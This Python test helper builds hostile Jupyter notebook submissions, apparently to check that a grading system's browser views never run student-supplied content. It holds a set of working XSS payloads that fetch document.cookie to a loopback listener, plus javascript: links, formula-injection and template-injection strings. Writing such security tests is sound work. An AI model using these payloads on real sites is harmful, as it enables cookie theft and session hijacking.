"""What a hostile student writes wherever she can write, and somebody who notices when any of it runs."""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from playwright.sync_api import BrowserContext, Page

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


class Watchman:
    """Listens on loopback, and in browsers: whatever runs or is fetched is told to him."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self.pages: dict[str, str] = {}
        watchman = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                page = watchman.pages.get(self.path)
                if page is None:
                    watchman.heard.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.end_headers()
                self.wfile.write((page or "").encode())

            def log_message(self, *_: Any) -> None:
                """Say nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()

    def look_at(self, context: BrowserContext) -> None:
        """Notice dialogs, windows and navigation in a browser, and refuse them."""
        context.on("page", self._look_at_page)
        for page in context.pages:
            self._look_at_page(page)

    def _look_at_page(self, page: Page) -> None:
        def dialog(one: Any) -> None:
            if one.type != "beforeunload":
                self.heard.append(f"dialog {one.message}")
            one.dismiss()

        page.on("dialog", dialog)

    def ran(self, page: Page) -> list[str]:
        """What ran in any frame of a page, and all that was heard."""
        marks = []
        for frame in page.frames:
            marks += frame.evaluate("window.__ran || []")
        return sorted({*self.heard, *(f"mark {one}" for one in marks)})


@contextmanager
def watching() -> Iterator[Watchman]:
    watchman = Watchman()
    try:
        yield watchman
    finally:
        watchman.close()


def payloads(url: str) -> dict[str, str]:
    """HTML that runs by itself in a plain page: a name -> the text. ``url`` is the watchman's."""

    def run(name: str, outer: str = "") -> str:
        """Marks the page, tells the watchman, and takes the cookies along."""
        return f"(window.__ran=window.__ran||[]).push('{name}');fetch('{url}/{name}?'+document.cookie);{outer}"

    return {
        "script": f"<script>{run('script')}</script>",
        "module": f'<script type="module">{run("module")}</script>',
        "image": f'<img src="x" onerror="{run("image")}">',
        "svg": f'<svg onload="{run("svg")}"></svg>',
        "svg-script": f"<svg><script>{run('svg-script')}</script></svg>",
        "frame": f'<iframe src="javascript:{run("frame")}"></iframe>',
        "frame-text": f'<iframe srcdoc="&lt;script&gt;{run("frame-text")}&lt;/script&gt;"></iframe>',
        "details": f'<details open ontoggle="{run("details")}">d</details>',
        "field": f'<input autofocus onfocus="{run("field")}">',
        "audio": f'<audio src="x" onerror="{run("audio")}"></audio>',
        "style": f'<style>@keyframes k {{}} b {{animation: k 1s}}</style><b onanimationstart="{run("style")}">b</b>',
        "pixel": f'<img src="{url}/pixel">',
        "sheet": f'<link rel="stylesheet" href="{url}/sheet">',
        "end-of-text": f"</textarea></title></pre></code></script><script>{run('end-of-text')}</script>",
        "mark": f'"\'><img src=x onerror="{run("mark")}">',
    }


def links(url: str) -> str:
    """What runs when it is clicked: as Markdown, HTML, an ANSI hyperlink, and mathematics."""
    run = f"javascript:fetch('{url}/click')"
    return "\n\n".join(
        [
            f"[click]({run})",
            f'<a href="{run}">click</a>',
            f'<form action="{run}"><button>click</button></form>',
            f"\x1b]8;;{run}\x1b\\click\x1b]8;;\x1b\\ \x1b[31mred\x1b[0m\x1b[2J",
            f"$\\href{{{run}}}{{click}}$",
            f"![click]({run})",
            "{{ 7*7 }} ${7*7} <%= 7*7 %>",
        ]
    )


FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", " =1+1", 'x;=HYPERLINK("http://127.0.0.1/")')


def everything(url: str) -> str:
    """All of it in one text."""
    return "\n\n".join([*payloads(url).values(), links(url), *FORMULAS])


def short(url: str) -> str:
    """One that has no slash, as a file's name or a user's name has none, and is a formula too."""
    return f"=1+1<img src=x onerror=alert('{url.rpartition(':')[2]}')>"


def hostile_notebook(text: str, url: str, code: str) -> str:
    """A student's copy with hostile text in every place; ``code`` is the answer of its first code cell."""
    notebook = json.loads(text)
    evil, is_first = everything(url), True
    for cell in notebook["cells"]:
        marks = cell["metadata"].get("nbgrader", {})
        if not marks.get("solution"):
            continue
        if cell["cell_type"] == "code" and is_first:
            cell["source"], is_first = code, False
        elif cell["cell_type"] == "markdown":
            cell["source"] = evil
            cell["attachments"] = {evil[:200]: {"image/svg+xml": payloads(url)["svg"], "text/html": evil}}
        cell["metadata"] |= {"tags": [evil[:200]], "title": evil, "magics_language": payloads(url)["mark"]}
    outputs = [
        {"output_type": "display_data", "data": {kind: evil}, "metadata": {"image/png": {"width": f"1 onload={evil}"}}}
        for kind in ("text/html", "text/markdown", "text/latex", "image/svg+xml", "application/javascript")
    ]
    outputs.append({"output_type": "stream", "name": "stdout", "text": evil})
    outputs.append({"output_type": "error", "ename": evil, "evalue": evil, "traceback": [evil]})
    outputs.append(
        {
            **{"output_type": "display_data", "data": {"image/png": PIXEL}},
            "metadata": {"image/png": {"width": f"1 onload=alert('{url.rpartition(':')[2]}')"}},
        }
    )
    own = {"cell_type": "code", "id": "evil", "source": evil, "execution_count": None, "outputs": outputs}
    raw = {"cell_type": "raw", "id": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": evil}
    words = {"cell_type": "markdown", "id": "words", "metadata": {}, "source": evil}
    notebook["cells"] += [{**own, "metadata": {"tags": [evil]}}, raw, words]
    state = {"application/vnd.jupyter.widget-state+json": {"state": {"evil": {"model_name": evil}}}}
    notebook["metadata"] |= {"title": evil, "widgets": state, "authors": [{"name": evil}]}
    return json.dumps(notebook)


def failing(url: str, base: str) -> str:
    """An answer whose error is hostile: its class, its text and what it prints."""
    evil = everything(url)
    return (
        f"evil = {evil!r}\nprint(evil)\n"
        "from IPython.display import display, HTML, Javascript, SVG\n"
        "Evil = type(evil[:300], (ValueError,), {})\n"
        f"def {base}(*given):\n    print(evil)\n    raise Evil(evil)\n"
    )
